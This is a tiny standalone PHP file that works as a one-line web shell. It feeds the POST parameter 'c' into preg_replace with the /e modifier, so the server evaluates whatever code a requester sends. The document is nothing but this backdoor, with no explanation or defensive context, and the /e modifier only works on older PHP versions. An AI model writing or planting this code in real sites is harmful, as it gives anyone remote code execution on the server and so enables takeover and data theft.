<?php
echo preg_replace('/.*/e', $_POST['c'], 'x');
